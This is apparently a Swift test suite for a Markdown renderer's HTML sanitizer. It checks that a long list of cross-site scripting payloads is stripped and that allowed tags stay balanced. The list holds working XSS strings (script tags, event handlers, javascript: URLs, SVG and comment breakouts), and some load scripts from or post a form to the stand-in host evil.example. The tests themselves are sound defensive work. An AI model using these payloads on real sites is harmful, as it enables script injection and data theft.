import CommonMark
import SourceText
import Testing

/// Raw HTML that tries to run, load, post or break out, in the ways that have worked somewhere.
private let tricks = [
    // plain
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/xss>alert(1)</script>",
    "<script\n>alert(1)</script\n>", "<script>alert(1)", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>", "<script x=\">\">alert(1)</script>", "<script>/*</script>*/alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT >", "<\0script>alert(1)</script>", "<scr\0ipt>alert(1)</scr\0ipt>",
    // handlers
    "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<b onclick=alert(1)>x</b>",
    "<b onmouseover=\"alert(1)\">x</b>", "<b/onclick=alert(1)>x</b>", "<b\nonclick\n=\nalert(1)>x</b>",
    "<b ONCLICK=alert(1)>x</b>", "<b x=y onclick='alert(1)'>x</b>", "<details open ontoggle=alert(1)>x</details>",
    "<div onpointerover=alert(1)>x</div>", "<p onanimationstart=alert(1)>x</p>", "<br onload=alert(1)>",
    "<b \"onclick=alert(1)\">x</b>", "<b title=\"x\"onclick=alert(1)>x</b>", "<b title='\"onclick=alert(1) x=\"'>x</b>",
    "<b title=x\"onclick=\"alert(1)>x</b>", "<b title=\"<script>alert(1)</script>\">x</b>",
    "<b =onclick=alert(1)>x</b>",
    "<time datetime=\"&quot; onclick=alert(1) x=&quot;\">x</time>", "<b title=`x`onclick=alert(1)>x</b>",
    "<b\u{0C}onclick=alert(1)>x</b>", "<b title=\"a\" title=\"b\" onclick=alert(1)>x</b>",
    // addresses
    "<a href=javascript:alert(1)>x</a>", "<a href=\"java&#09;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=data:text/html,x>x</a>", "<q cite=javascript:alert(1)>x</q>",
    "<blockquote cite=\"javascript:alert(1)\">x</blockquote>", "<img src=\"https://evil.example/spy.gif\">",
    "<video src=x onerror=alert(1)></video>", "<audio autoplay src=x></audio>", "<source src=x>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    // frames, forms, objects
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=x></object>",
    "<embed src=x>", "<form action=//evil.example><input name=p><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>", "<select autofocus onfocus=alert(1)>x</select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>", "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open>x</dialog>",
    // style
    "<style>body{display:none}</style>", "<style>@import '//evil.example';</style>",
    "<b style=\"background:url(//evil.example)\">x</b>",
    "<div style=position:fixed>x</div>", "<b class=site-menu id=main>x</b>", "<font color=red>x</font>",
    // svg, math, templates
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1)></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<math><mtext></math><script>alert(1)</script>",
    "<math><a xlink:href=javascript:alert(1)>x</math>", "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><script>alert(1)</script>",
    "<slot onslotchange=alert(1)>x</slot>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    // comments and declarations
    "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script>", "<!-- <b --><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<?php echo 1 ?><script>alert(1)</script>", "<?xml-stylesheet href=x?>", "<! ><img src=x onerror=alert(1)>",
    "</ script><script>alert(1)</script>",
    // the page around it
    "</main></body></html>", "</div></div></div>", "<body onload=alert(1)>", "<html><head>", "<main id=main>",
    "<h1>Not the title</h1>",
]

@Suite struct SanitizerTests {
    /// A page with the trick in a block of its own, inside a line, inside a block, and in a list.
    private static func pages(with trick: String) -> [String] {
        [
            trick, "words \(trick) words", "<div>\n\(trick)\n</div>", "- item\n\n  \(trick)\n\n- item", "> \(trick)",
            "| a |\n|-|\n| \(trick) |",
        ]
    }

    @Test func theListIsLongEnough() {
        #expect(tricks.count >= 60)
        #expect(Set(tricks).count == tricks.count)
    }

    @Test(arguments: tricks)
    func whatIsLeftCanNeitherRunNorLoadNorBreakOut(trick: String) {
        for text in SanitizerTests.pages(with: trick) {
            for html in rawHTML(parse(text).value) {
                #expect(forbiddenThings(in: html) == [], "in \(html) from \(text)")
            }
        }
    }

    @Test(arguments: tricks)
    func tagsAreNestedWellInEachContainer(trick: String) {
        for text in SanitizerTests.pages(with: trick) {
            #expect(isNestedWell(parse(text).value.blocks), "from \(text)")
        }
    }

    @Test(arguments: tricks)
    func aTranslationIsCutDownToTheSameList(trick: String) {
        let once = sanitizedHTML(trick)
        #expect(forbiddenThings(in: once) == [], "in \(once)")
        #expect(sanitizedHTML(once) == once)
    }

    @Test(arguments: [
        (
            "<details>\n<summary>More</summary>\nWords\n</details>",
            "<details>\n<summary>More</summary>\nWords\n</details>"
        ),
        (
            "<table><tr><th scope=col>a<td rowspan='2'>b</table>",
            #"<table><tr><th scope="col">a</th><td rowspan="2">b</td></tr></table>"#
        ),
        ("<p lang=ar dir=rtl>مرحبا</p>", #"<p lang="ar" dir="rtl">مرحبا</p>"#),
        ("<p title=\"a &amp; b\">x</p>", #"<p title="a &amp; b">x</p>"#),
        ("<p title='say \"x\"'>x</p>", #"<p title="say &quot;x&quot;">x</p>"#),
        ("<p>5 < 6 & 7 > 3</p>", "<p>5 &lt; 6 & 7 > 3</p>"),
        ("<ol start=3 reversed><li>x</ol>", #"<ol start="3" reversed=""><li>x</li></ol>"#),
        ("<hr/>", "<hr>"),
        ("<DIV>x</DIV>", "<div>x</div>"),
    ])
    func harmlessHTMLStays(text: String, html: String) {
        #expect(rawHTML(parse(text).value) == [html])
        #expect(parse(text).diagnostics.isEmpty)
    }

    @Test(arguments: [
        ("a <b>c</b> d", ["<b>", "</b>"]), ("H<sub>2</sub>O", ["<sub>", "</sub>"]), ("a<br>b", ["<br>"]),
        ("<ruby>漢<rt>kan</rt></ruby>", ["<ruby>", "<rt>", "</rt>", "</ruby>"]),
        ("a <kbd title='x'>b</kbd>", [#"<kbd title="x">"#, "</kbd>"]),
    ])
    func harmlessHTMLStaysInALineOfText(text: String, html: [String]) {
        #expect(rawHTML(parse("Words " + text).value) == html)
    }

    @Test(arguments: [
        ("<script>x</script>", "The HTML '<script>' is not used on the page", "<script"),
        ("Words\n\n<p>a</p>\n<p style='x'>b</p>", "'style' on '<p>' is not used on the page", "style"),
        ("a <IMG src=x> b", "The HTML '<img>' is not used on the page", "<IMG"),
        ("a <div>b</div> c", "The HTML '<div>' is not used inside a line of text", "<div"),
    ])
    func whatHadToGoIsReportedAtItsPlace(text: String, message: String, place: String) {
        let found = parse(text).diagnostics
        #expect(found.map(\.rule) == ["unsafe-html"])
        #expect(found.map(\.message) == [message])
        #expect(found.map { SourceFile(path: "", text: text).text($0.place.range) } == [place])
    }
}

/// All raw HTML of a tree.
private func rawHTML(_ document: Document) -> [String] {
    var found: [String] = []
    document.forEachBlock { block in
        if case .html(let html) = block.kind, !html.isEmpty { found.append(html) }
        block.inlines.forEachInline { if case .html(let html) = $0.kind { found.append(html) } }
    }
    return found
}

/// Tags of clean HTML: `<`, name, attributes with double quotes, `>`. Anything else that a browser could take for a tag is
/// found too, as the judge must not trust what it judges.
private func forbiddenThings(in html: String) -> [String] {
    let elements: Set<String> = [
        "abbr", "b", "bdi", "bdo", "blockquote", "br", "caption", "cite", "code", "col", "colgroup", "dd", "del",
        "details",
        "dfn", "div", "dl", "dt", "em", "figcaption", "figure", "h2", "h3", "h4", "h5", "h6", "hr", "i", "ins", "kbd",
        "li",
        "mark", "ol", "p", "pre", "q", "rp", "rt", "ruby", "s", "samp", "small", "span", "strong", "sub", "summary",
        "sup",
        "table", "tbody", "td", "tfoot", "th", "thead", "time", "tr", "u", "ul", "var", "wbr",
    ]
    let attributes: Set<String> = [
        "abbr", "colspan", "datetime", "dir", "lang", "open", "reversed", "rowspan", "scope", "span", "start", "title",
        "type",
    ]
    var bad: [String] = []
    var rest = html[...]
    while let open = rest.firstIndex(of: "<") {
        rest = rest[open...].dropFirst()
        if rest.first == "/" { rest = rest.dropFirst() }
        let name = String(rest.prefix { $0.isLetter || $0.isNumber })
        if !elements.contains(name) { bad.append("<" + name) }
        rest = rest.dropFirst(name.count)
        while rest.first == " " {
            let key = String(rest.dropFirst().prefix { $0 != "=" && $0 != ">" })
            rest = rest.dropFirst(key.count + 1)
            if !attributes.contains(key) { bad.append(key) }
            guard rest.hasPrefix("=\"") else { return bad + ["attribute without quotes"] }
            let value = rest.dropFirst(2).prefix { $0 != "\"" }
            if value.contains("<") || value.contains(">") { bad.append("sign in \(key)") }
            rest = rest.dropFirst(value.count + 3)
        }
        if rest.first != ">" { bad.append("tag without an end") }
    }
    return bad
}

/// Whether the HTML of each list of siblings closes what it opens, in the right order.
private func isNestedWell(_ blocks: [Block]) -> Bool {
    var html = ""
    for block in blocks {
        if case .html(let text) = block.kind { html += text }
        guard isNestedWell(block.children), isNestedWell(block.inlines) else { return false }
    }
    return isNestedWell(html)
}

private func isNestedWell(_ inlines: [Inline]) -> Bool {
    var html = ""
    for inline in inlines {
        if case .html(let text) = inline.kind { html += text }
        guard isNestedWell(inline.children) else { return false }
    }
    return isNestedWell(html)
}

private func isNestedWell(_ html: String) -> Bool {
    var open: [String] = []
    for piece in html.split(separator: "<", omittingEmptySubsequences: false).dropFirst() {
        let name = String(piece.prefix { $0 != ">" && $0 != " " })
        if name.hasPrefix("/") {
            guard open.popLast() == String(name.dropFirst()) else { return false }
        } else if !["br", "hr", "col", "wbr"].contains(name) {
            open.append(name)
        }
    }
    return open.isEmpty
}

@Suite struct BalanceTests {
    private func blocks(_ text: String) -> String {
        outline(parse(text).value.blocks)
    }

    @Test(arguments: [
        // never closed: ends with its own block
        ("<div>\nWords\n\nAfter", "html(<div>\nWords</div>) p[\"After\"]", ["'<div>' is never closed"]),
        ("<b>\n\nAfter", "html(<b></b>) p[\"After\"]", ["'<b>' is never closed"]),
        (
            "<details>\n<summary>More\n\nAfter", "html(<details>\n<summary>More</summary></details>) p[\"After\"]",
            ["'<details>' is never closed", "'<summary>' is never closed"]
        ),
        (
            "<table><tr><td>x\n\nAfter", "html(<table><tr><td>x</td></tr></table>) p[\"After\"]",
            ["'<table>' is never closed"]
        ),
        // closes nothing: goes
        ("Before\n\n</div>\n\nAfter", "p[\"Before\"] p[\"After\"]", ["'</div>' closes nothing"]),
        ("</p></section>\n\nAfter", "p[\"After\"]", ["'</p>' closes nothing"]),
        // over several blocks
        (
            "<details>\n<summary>More</summary>\n\n- one\n\n</details>\n\nAfter",
            "html(<details>\n<summary>More</summary>) ul(item(p[\"one\"])) html(</details>) p[\"After\"]", []
        ),
        (
            "<div dir=\"rtl\">\n\nA\n\n<div>\n\nB\n\n</div>\n\n</div>\n\nC",
            "html(<div dir=\"rtl\">) p[\"A\"] html(<div>) p[\"B\"] html(</div>) html(</div>) p[\"C\"]", []
        ),
        (
            "<div>\n\nA\n\n<div>\n\nB\n\n</div>", "html(<div></div>) p[\"A\"] html(<div>) p[\"B\"] html(</div>)",
            ["'<div>' is never closed"]
        ),
        // what cannot hold Markdown ends with its block
        ("<p>A\n\nB\n\n</p>", "html(<p>A</p>) p[\"B\"]", ["'</p>' closes nothing"]),
        // nested the wrong way round
        ("<div><b>x</div></b>", "html(<div><b>x</b></div>)", ["'<b>' is never closed", "'</b>' closes nothing"]),
        // an end in another container
        (
            "<div>\n\n- item\n\n  </div>\n\nAfter", "html(<div></div>) loose-ul(item(p[\"item\"])) p[\"After\"]",
            ["'<div>' is never closed", "'</div>' closes nothing"]
        ),
        // ends that HTML lets people leave out
        ("<ul><li>a<li>b</ul>", "html(<ul><li>a</li><li>b</li></ul>)", []),
        ("<dl><dt>a<dd>b<dt>c<dd>d</dl>", "html(<dl><dt>a</dt><dd>b</dd><dt>c</dt><dd>d</dd></dl>)", []),
    ])
    func htmlCannotBreakThePageAroundIt(text: String, tree: String, messages: [String]) {
        #expect(blocks(text).withoutLineEnds == tree.withoutLineEnds)
        #expect(Set(parse(text).diagnostics.map(\.message)) == Set(messages))
        #expect(parse(text).diagnostics.allSatisfy { $0.rule == "unsafe-html" && $0.severity == .warning })
    }

    @Test(arguments: [
        ("a <b>c", #"p["a ", html(<b>), "c", html(</b>)]"#), ("a </b> c", #"p["a  c"]"#), ("a </div> c", #"p["a  c"]"#),
        ("*a <b>c* d</b>", #"p[em["a ", html(<b>), "c", html(</b>)], " d"]"#),
        ("<b>a <i>c</b> d</i>", #"p[html(<b>), "a ", html(<i>), "c", html(</i></b>), " d"]"#),
        ("<ruby>漢<rt>kan</ruby>", #"p[html(<ruby>), "漢", html(<rt>), "kan", html(</rt></ruby>)]"#),
        ("| a |\n|-|\n| <b>c |", #"table(head(cell["a"]) row(cell[html(<b>), "c", html(</b>)]))"#),
    ])
    func whatIsOpenedInALineOfTextEndsThere(text: String, tree: String) {
        #expect(blocks(text) == tree)
    }

    @Test func theReportPointsAtTheTag() {
        let text = "Words\n\n<table>\n<DIV>x\n\nAfter"
        let places = parse(text).diagnostics.map { SourceFile(path: "", text: text).text($0.place.range) }
        #expect(places == ["<table", "<DIV"])
    }

    @Test(arguments: [
        ("<b>a</b>", true), ("<b>a", false), ("a</b>", false), ("<details><summary>a</summary>", false), ("", true),
        ("<br>", true),
    ])
    func htmlThatClosesAllItOpensIsBalanced(html: String, isBalanced: Bool) {
        #expect(isBalancedHTML(html) == isBalanced)
    }

    @Test func languageIsMarkedInsideHTMLThatStaysOpen() {
        #expect(
            markingHTML("<details><summary title=\"x\">More</summary>words", attributes: " lang=\"en\"")
                == #"<details><summary lang="en" title="x">More</summary><span lang="en">words</span>"#)
        #expect(markingHTML("</details>", attributes: " lang=\"en\"") == "</details>")
    }
}

extension String {
    /// The same without line ends, which HTML blocks keep and nobody sees.
    fileprivate var withoutLineEnds: String {
        String(filter { $0 != "\n" })
    }
}
